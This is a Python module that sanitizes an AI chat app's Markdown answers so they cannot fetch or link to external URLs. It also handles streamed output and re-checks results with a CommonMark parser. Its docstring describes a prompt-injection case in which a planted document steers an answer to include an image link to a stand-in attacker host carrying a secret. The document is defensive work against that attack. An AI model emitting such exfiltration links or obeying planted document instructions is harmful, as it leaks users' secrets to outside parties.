"""Answer Markdown that cannot make a browser fetch or follow anything outside the app: the one sanitizer.

An answer steered by a planted document could carry ``![x](https://attacker/?q=<secret>)``, which a
Markdown renderer would fetch at once. Answers stay Markdown (Gradio's Chatbot, API clients and the
terminal render it themselves), so they are made safe as Markdown: external images become
``[image: `URL`]``, external links ``text (`URL`)``, autolinks and reference definitions inline code,
and raw HTML tags are escaped. Relative and ``#anchor`` links are kept, and code spans and fences are
left untouched (renderers show them literally). Bare URLs are text in CommonMark; for a renderer that
links them (GitHub-flavoured Markdown: the web page) ``bare_urls=True`` shows them as inline code too.

The rewriting is done on the source text, so that the answer reads as written (markdown-it gives
no source positions inside a paragraph). Then markdown-it-py, a CommonMark parser, is the judge: when
it still finds an external link or image, or raw HTML, in the result (entity-encoded URLs,
multi-line reference definitions...), every bracket and ``<`` is escaped instead.

``safe_markdown`` is applied to the answer text as it leaves the chat engine (stored, sent by the
API, printed by the CLI), and by the web page to what it shows, the streamed text included
(``ui.render`` and ``ui.chat`` pass ``bare_urls=True``: Gradio links bare URLs; on an answer already
made safe only that changes anything). ``MarkdownStream`` makes
the API's streamed pieces safe as they go.
"""

from __future__ import annotations

import re
from typing import Iterator

from markdown_it import MarkdownIt
from markdown_it.token import Token

_SCHEME = r"(?:[a-zA-Z][a-zA-Z0-9+.\-]{0,31}:|//)"  # http:, https:, data:, javascript:, //host ...
_EXTERNAL = re.compile(r"\s*<?\s*" + _SCHEME)
_MD_PROTECTED = re.compile(r"(^[ \t]{0,3}(`{3,}|~{3,})[^\n]*\n.*?(?:^[ \t]{0,3}\2[ \t]*$|\Z)|(`+)(?!`).+?(?<!`)\3(?!`))", re.S | re.M)
_MD_TITLE = r"(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^)\n]*\)))?"
_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?" + _MD_TITLE + r"\s*\)")
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?" + _MD_TITLE + r"\s*\)")
_MD_REFDEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?([^\s>]+)>?[^\n]*$", re.M)
_MD_AUTOLINK = re.compile(r"<(" + _SCHEME + r"[^\s<>]*|www\.[^\s<>]*)>")
_MD_BROKEN = re.compile(r"\]\((?=" + _EXTERNAL.pattern + r")")
_HTML_TAG = re.compile(r"<(?=[A-Za-z/!?])")


def _is_external(url: str) -> bool:
    return bool(_EXTERNAL.match(url)) or url.lower().startswith("www.")


def _shown(url: str) -> str:
    """A URL as inline code: visible, never a link in any Markdown renderer."""
    return "`" + url.replace("`", "%60") + "`"


def _sanitize_plain(text: str) -> str:
    def image(m: re.Match[str]) -> str:
        alt, url = m.group(1).strip(), m.group(2)
        if not _is_external(url):
            return m.group()
        return f"[image: {_shown(url)}]" if not alt else f"[image {alt}: {_shown(url)}]"

    def link(m: re.Match[str]) -> str:
        label, url = m.group(1).strip(), m.group(2)
        if not _is_external(url):
            return m.group()
        return f"{label} ({_shown(url)})" if label and label != url else _shown(url)

    def refdef(m: re.Match[str]) -> str:
        return f"{m.group(1)}: {_shown(m.group(2))}" if _is_external(m.group(2)) else m.group()

    text = _MD_IMAGE.sub(image, text)
    text = _MD_LINK.sub(link, text)
    text = _MD_REFDEF.sub(refdef, text)
    text = _MD_AUTOLINK.sub(lambda m: _shown(m.group(1)), text)
    text = _MD_BROKEN.sub("] (", text)  # what nested brackets kept from the rules above never becomes a link
    return _HTML_TAG.sub("&lt;", text)  # raw HTML (<img src=...>) is shown, never rendered


_PARSER = MarkdownIt("commonmark", {"html": True})


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def _live(text: str) -> bool:
    """Raw HTML, or a link or image to an external URL, as a CommonMark renderer reads the text."""
    for token in _tokens(_PARSER.parse(text)):
        if token.type in ("html_block", "html_inline"):
            return True
        url = token.attrGet("href") if token.type == "link_open" else token.attrGet("src") if token.type == "image" else None
        if url is not None and _is_external(str(url)):
            return True
    return False


def _inert(text: str) -> str:
    """Text in which no link, image, autolink or HTML can begin: brackets and backslashes escaped, ``<`` as an entity."""
    text = text.replace("\\", "\\\\").replace("[", "\\[").replace("]", "\\]").replace("<", "&lt;")
    return text.replace("](", "] (")


def _checked(text: str) -> str:
    """The rewritten text, or, when the parser still finds something live in it, its inert form."""
    return _inert(text) if _live(text) else text


# A bare URL, for renderers that link them (GFM): CJK punctuation and sentence punctuation end it.
_BARE_URL = re.compile(r"\b(?:(?:https?|ftp|file|data|javascript):|www\.)[^\s<>()\[\]`'\"\u3000-\u303f\uff00-\uffef]+", re.I)
_TRAILING = re.compile(r"[.,;:!?]+$")


def _bare_urls_shown(text: str) -> str:
    def repl(m: re.Match[str]) -> str:
        url = m.group()
        trail = _TRAILING.search(url)
        return _shown(url[: trail.start()]) + trail.group() if trail else _shown(url)

    return _BARE_URL.sub(repl, text)


def _outside_code(text: str, rewrite) -> str:
    """text with ``rewrite`` applied to everything but its code fences and code spans."""
    out, pos = [], 0
    for m in _MD_PROTECTED.finditer(text):
        out.append(rewrite(text[pos : m.start()]))
        out.append(m.group())
        pos = m.end()
    out.append(rewrite(text[pos:]))
    return "".join(out)


def safe_markdown(text: str, *, bare_urls: bool = False) -> str:
    """Answer Markdown with nothing a browser would fetch or follow outside the app (module docstring).
    ``bare_urls``: also show bare URLs (``https://…``, ``www.…``) as inline code, for a renderer
    that links them (the web page: Gradio's Chatbot renders GitHub-flavoured Markdown)."""
    text = _outside_code(text, _sanitize_plain)
    if bare_urls:
        text = _outside_code(text, _bare_urls_shown)  # after the rules above: their URLs are code by now
    return _checked(text)


class MarkdownStream:
    """Answer text that is sent on in pieces (the HTTP API's streams), made safe as it goes.

    ``safe_markdown`` needs a whole construct to see it: ``![x](https://...)`` only once its
    ``)`` has arrived. So text is held back while a construct may be open: from ``[`` (or ``![``)
    to the character after its ``]``, from ``](`` to its ``)``, from ``<`` to ``>`` or a space,
    and a reference definition (a line ``[x]: URL``) to the end of its line. Everything before
    is released and sanitized without code-span protection (safe either way: a URL inside code
    is only shown as code). What is released is judged by the parser together with all that was
    sent before it. Nothing is held longer than ``hold_max`` characters. The whole answer, as
    stored, goes through ``safe_markdown`` as usual.
    """

    def __init__(self, hold_max: int = 2048):
        self.hold_max = hold_max
        self._raw = ""
        self._sent = 0  # released up to here
        self._out = ""  # what was released, as sent
        self._pos = 0  # scanned up to here
        self._safe = 0  # nothing is open before here
        self._state: str | None = None  # None | bang | bracket | bracket-end | paren | angle | refdef
        self._opened = 0  # where the open construct began
        self._refdef = False  # the open bracket began its line

    def feed(self, piece: str) -> str:
        self._raw += piece
        while self._pos < len(self._raw):
            i, c = self._pos, self._raw[self._pos]
            self._pos += 1
            self._step(i, c)
        if self._state is not None and len(self._raw) - self._opened > self.hold_max:
            self._state = None  # a construct that never ends: release it (sanitized) rather than stall
            self._safe = len(self._raw)
        return self._release(self._safe)

    def flush(self) -> str:
        """The rest, at the end of the answer."""
        self._state = None
        return self._release(len(self._raw))

    def _step(self, i: int, c: str) -> None:
        state = self._state
        if state == "bang":
            if c == "[":
                self._state, self._refdef = "bracket", False
                return
            self._state = None  # a plain "!": read c afresh below
        elif state == "bracket":
            if c == "]":
                self._state = "bracket-end"
            elif c == "\n":
                self._close()
            return
        elif state == "bracket-end":
            if c == "(":
                self._state = "paren"
                return
            if c == ":" and self._refdef:
                self._state = "refdef"
                return
            if c == "[":  # [text][ref]
                self._state, self._refdef = "bracket", False
                return
            self._state = None
            self._safe = i  # the construct ended before c
        elif state == "paren":
            if c == ")":
                self._close()
            return
        elif state == "angle":
            if c == ">" or c.isspace():
                self._close()
            return
        elif state == "refdef":
            if c == "\n":
                self._close()
            return
        if c in "![]<":
            line = self._raw[self._raw.rfind("\n", 0, i) + 1 : i]
            self._state = {"!": "bang", "[": "bracket", "]": "bracket-end", "<": "angle"}[c]
            self._opened = i
            self._refdef = c == "[" and len(line) <= 3 and not line.strip(" \t")
        else:
            self._safe = self._pos

    def _close(self) -> None:
        self._state = None
        self._safe = self._pos

    def _release(self, end: int) -> str:
        out = self._raw[self._sent : end]
        self._sent = max(self._sent, end)
        if not out:
            return ""
        piece = _sanitize_plain(out)
        if _live(self._out + piece):  # live only with what was sent before (a reference definition)
            piece = _inert(piece)
        self._out += piece
        return piece
